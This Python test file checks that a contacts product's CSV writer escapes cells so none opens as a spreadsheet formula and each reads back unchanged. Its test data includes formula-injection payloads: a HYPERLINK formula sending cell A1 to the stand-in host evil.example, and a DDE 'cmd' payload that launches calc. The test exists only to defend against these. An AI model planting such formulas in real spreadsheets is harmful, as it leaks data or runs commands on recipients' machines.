"""The one writer of every CSV the product writes: formula-safe cells, read back exactly by its own readers."""

import csv
import io

from hypothesis import given
from hypothesis import strategies as st

from contacts import csv_files

TRICKY = ("=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")", "=cmd|'/Ccalc'!A0@formula.example", "+33 1",
          "-2", "@SUM(A1)", "\tx", "\rx", "'=1+1", "''=1+1", "'t Hooft", "'", "", "Ana")


def test_no_written_cell_starts_as_a_formula_and_each_reads_back_as_it_was():
    out = io.StringIO()
    csv_files.writer(out).writerows([TRICKY, [1, None, True]])
    rows = list(csv.reader(io.StringIO(out.getvalue())))
    assert not any(cell.startswith(csv_files.FORMULA_STARTS) for row in rows for cell in row)
    assert [csv_files.plain_cell(cell) for cell in rows[0]] == list(TRICKY)
    assert rows[1] == ["1", "", "true"]
    assert rows[0][:2] == ["'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")", "'=cmd|'/Ccalc'!A0@formula.example"]
    assert rows[0][7:10] == ["''=1+1", "'''=1+1", "'t Hooft"]  # one more apostrophe, only where it could be taken


@given(st.text(alphabet=st.sampled_from("'=+-@\t\rab,\" "), max_size=8))
def test_plain_cell_undoes_safe_cell(text):
    written = csv_files.safe_cell(text)
    assert not written.startswith(csv_files.FORMULA_STARTS)
    assert csv_files.plain_cell(written) == text
